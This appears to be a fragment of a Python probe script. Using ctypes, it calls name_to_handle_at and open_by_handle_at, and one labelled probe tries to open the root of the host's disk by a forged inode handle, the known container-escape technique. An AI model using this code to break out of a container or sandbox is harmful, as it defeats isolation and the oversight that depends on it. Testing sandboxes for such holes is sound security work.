handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount_number = ctypes.c_int()

def name(path):
    return system_call("name_to_handle_at", 0xffffff9c, path, handle, ctypes.byref(mount_number), 0)

def open_by_handle(content):
    return system_call("open_by_handle_at", os.open("/", os.O_RDONLY), content, 0)

probe("name a file", lambda: name(sys.executable.encode()))
probe("open the root of the host's disk by its inode",
      lambda: open_by_handle(ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))))
probe("open by the handle just made", lambda: open_by_handle(handle))
